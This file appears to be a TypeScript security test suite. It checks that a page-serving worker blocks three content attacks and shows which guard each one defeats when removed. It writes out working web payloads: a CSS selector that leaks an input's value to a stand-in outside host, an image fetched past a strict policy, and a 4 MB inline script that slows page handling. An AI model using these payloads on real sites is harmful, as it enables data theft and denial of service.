import { type RequestListener } from "node:http";
import { type Attack, type Target } from "../attack.ts";
import { withServer } from "../with-server.ts";
import { answerPage, type AttackedPage, withPage } from "./attacked-page.ts";
import { send } from "./send.ts";

const ELSEWHERE = "https://elsewhere.example";

/** Attacks by the content of the site's pages: pictures that the policy forbids, and text that takes long to read. */
export const pageContentAttacks: readonly Attack[] = [
  {
    name: "Sends an input's value away by an injected style, where the site's policy forbade pictures from elsewhere",
    withoutGuard: { file: "src/core/policy/chat-sources.ts", from: '"data:", origin,', to: '"data:", "https:",' },
    attempt: (target) =>
      loadsPicture(target, {
        html: `<!doctype html><html><head></head><body><input value="4711"><style>input[value^="4"] { background: url(${ELSEWHERE}/?begins=4) }</style></body></html>`,
        policy: "default-src 'self'; style-src 'self' 'unsafe-inline'",
      }),
  },
  {
    name: "Loads pictures from anywhere in an upload that the site serves with default-src 'none'",
    withoutGuard: [
      { file: "src/core/policy/obstacle.ts", from: 'return "csp-no-script";', to: "return null;" },
      { file: "src/core/policy/chat-sources.ts", from: '"data:", origin,', to: '"data:", "https:",' },
    ],
    attempt: (target) =>
      loadsPicture(target, {
        html: `<!doctype html><html><head></head><body><img src="${ELSEWHERE}/counted.png"></body></html>`,
        policy: "default-src 'none'",
      }),
  },
  {
    name: "Has a page show text of its own in a script of the head, so that every view of the page costs seconds",
    withoutGuard: {
      file: "src/http/page/tag-inserter.ts",
      from: "!page.isComplete && page.text.length < MAX_HEAD_BYTES",
      to: "!page.isComplete",
    },
    attempt: ({ startBare }) => {
      const text = "a".repeat(4_000_000);
      const pages = {
        evil: `<!doctype html><html><head><script>const text = "${text}"</script></head><body></body></html>`,
        harmless: `<!doctype html><html><head></head><body><p>${text}</p></body></html>`,
      };
      const answer: RequestListener = ({ url }, response) =>
        response.setHeader("content-type", "text/html").end(url === "/evil" ? pages.evil : pages.harmless);
      return withServer(answer, async (shop) => {
        const worker = await startBare({ ORIGIN_URL: shop.origin });
        const readFastestMs = async (path: string) => {
          const times: number[] = [];
          for (const _try of [1, 2, 3, 4, 5]) {
            const before = performance.now();
            await send(worker.origin, { path, headers: ["Sec-Fetch-Dest: document"] });
            times.push(performance.now() - before);
          }
          return Math.min(...times);
        };
        // Pages of the same length, and of each the fastest answer: what else the machine does slows it least.
        const harmless = await readFastestMs("/harmless");
        return (await readFastestMs("/evil")) > 20 * harmless;
      });
    },
  },
];

/** Whether a browser asks for the page's picture, or refuses by its policy. */
function loadsPicture(target: Target, attacked: Required<AttackedPage>): Promise<boolean> {
  return withPage(target, answerPage(attacked), async (page, origin) => {
    const { promise: isAsked, resolve } = Promise.withResolvers<boolean>();
    await page.route(`${ELSEWHERE}/**`, async (route) => {
      resolve(true);
      await route.abort();
    });
    await page.exposeFunction("onRefused", (address: string) => {
      if (address.startsWith(ELSEWHERE)) resolve(false);
    });
    await page.addInitScript(
      'document.addEventListener("securitypolicyviolation", ({ blockedURI }) => onRefused(blockedURI))',
    );
    await page.goto(origin, { waitUntil: "commit" });
    return isAsked;
  });
}
